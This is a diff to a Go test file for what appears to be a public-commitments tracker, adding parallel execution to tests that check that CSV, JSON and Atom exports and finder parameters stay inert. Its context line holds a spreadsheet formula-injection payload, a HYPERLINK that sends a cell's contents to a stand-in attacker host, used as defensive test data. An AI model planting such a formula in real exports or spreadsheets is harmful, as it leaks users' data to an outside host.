@@ -23,6 +23,7 @@ const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
 // the CSV and JSON downloads and the Atom feeds: each format keeps the text exactly, as data, in a
 // form that cannot run as script or as a spreadsheet formula.
 func TestOpenDataEscapesEverything(t *testing.T) {
+	t.Parallel()
 	pool := dbtest.Pool(t)
 	withXSS(t, pool)
 	if _, err := pool.Exec(t.Context(), `UPDATE commitments SET deliver = $1 WHERE ref = '4.1'`, formula); err != nil {
@@ -153,6 +154,7 @@ func isNumber(s string) bool {
 // downloads: each answers as a page or download (ignoring or refusing the value), never a 500,
 // and nothing changes.
 func TestFinderParametersAreInert(t *testing.T) {
+	t.Parallel()
 	pool := dbtest.Pool(t)
 	h := server.New(server.Config{Store: postgres.New(pool, postgres.WithClock(nowFunc(fixedNow))), Now: nowFunc(fixedNow)})
 	params := []string{"q", "priority", "status", "org", "due", "overdue", "update_due", "sort", "page"}
